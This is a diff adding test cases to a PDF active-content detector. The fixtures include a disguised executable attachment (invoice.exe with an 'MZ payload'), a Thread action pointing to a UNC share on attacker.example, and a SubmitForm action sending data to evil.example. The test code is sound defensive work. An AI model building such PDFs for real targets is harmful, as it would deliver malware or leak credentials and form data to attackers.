@@ -149,6 +149,32 @@ describe('PDF active content', () => {
       'actions run when a page or field is used (/AA)',
     ],
     ['an attached file', pdf('/Names << /EmbeddedFiles 8 0 R >>'), 'an attached file'],
+    [
+      // A file attachment annotation whose attached stream does not say /Type /EmbeddedFile.
+      'a file attached to a page',
+      pdf(
+        '',
+        [{ dict: '/Filter /FlateDecode', data: deflateSync(Buffer.from('MZ payload')) }],
+        '5 0 obj\n<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 50 50] ' +
+          '/FS << /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 10 0 R >> >> >>\nendobj\n',
+      ),
+      'an attached file',
+    ],
+    [
+      'a file specification with /EF',
+      pdf('', [], '5 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>\nendobj\n'),
+      'an attached file',
+    ],
+    [
+      'a file specification with /RF',
+      pdf('', [], '5 0 obj\n<< /Type /Filespec /F (a.exe) /RF << /F 6 0 R >> >>\nendobj\n'),
+      'an attached file',
+    ],
+    [
+      'a FileAttachment annotation',
+      pdf('', [], '5 0 obj\n<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 5 5] >>\nendobj\n'),
+      'an attached file',
+    ],
     ['rich media', pdf('/Annots [<< /Subtype /RichMedia >>]'), 'rich media (Flash or video)'],
     ['an XFA form', pdf('/AcroForm << /XFA 5 0 R >>'), 'an XFA form'],
     ['JavaScript named with #xx escapes', pdf('/Names << /J#61vaScript 9 0 R >>'), 'JavaScript'],
@@ -459,6 +485,11 @@ describe('PDF active content', () => {
         'a link that opens another file (GoToR)',
       ],
       ['GoToE', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>', 'a link that opens an attached file (GoToE)'],
+      [
+        'Thread to another file',
+        '<< /S /Thread /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D 0 >>',
+        'a link that opens an article thread, possibly in another file (Thread)',
+      ],
       [
         'SubmitForm',
         '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>',
